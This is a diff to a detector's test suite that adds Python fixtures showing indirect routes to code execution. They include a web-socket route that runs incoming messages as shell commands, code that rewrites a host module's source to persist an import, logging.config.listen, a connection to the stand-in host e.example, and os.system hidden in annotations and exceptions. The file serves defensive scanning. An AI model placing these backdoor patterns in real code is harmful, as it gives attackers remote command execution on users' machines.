@@ -37,6 +37,31 @@ describe('the checks hold a function that is reached', () => {
       'by a name in a configuration',
       'import logging.config\nlogging.config.dictConfig({"handlers": {"h": {"()": "os.system", "command": "a"}}})\n',
     ],
+    [
+      'by a path file of another name',
+      'import os, site\nsite.addpackage(os.path.dirname(__file__), "list.txt", set())\n',
+    ],
+    [
+      'by formulas in a file',
+      'import os, sympy\nHERE = os.path.dirname(__file__)\nfor line in open(os.path.join(HERE, "a.txt")).read().splitlines(): sympy.sympify(line)\n',
+    ],
+    [
+      'by a connection between processes',
+      'from multiprocessing.connection import Client\nwith Client(("e.example", 6000)) as link: print(link.recv())\n',
+    ],
+    ['by settings that it waits for', 'import logging.config\nlogging.config.listen(9999).start()\n'],
+    [
+      'by a message to a web socket',
+      'import asyncio\nfrom aiohttp import web\nfrom server import PromptServer\nasync def console(request):\n    socket = web.WebSocketResponse()\n    await socket.prepare(request)\n    async for message in socket: await asyncio.create_subprocess_shell(message.data)\nPromptServer.instance.app.router.add_get("/a", console)\n',
+    ],
+    [
+      'by the source of a module of the host',
+      'import folder_paths, inspect, pathlib\nfile = pathlib.Path(inspect.getfile(folder_paths))\nfile.write_text(file.read_text() + "import a")\n',
+    ],
+    [
+      'by the source of a module that is searched for',
+      'import importlib.util\nopen(importlib.util.find_spec("folder_paths").origin, "a").write("import a")\n',
+    ],
     ['in an annotation', 'import typing\ndef f(x: "__import__(\'os\').system(1)"): pass\ntyping.get_type_hints(f)\n'],
     ['in a class that is raised', 'import os\nclass E(Exception):\n    def __init__(self): os.system("a")\nraise E\n'],
     [
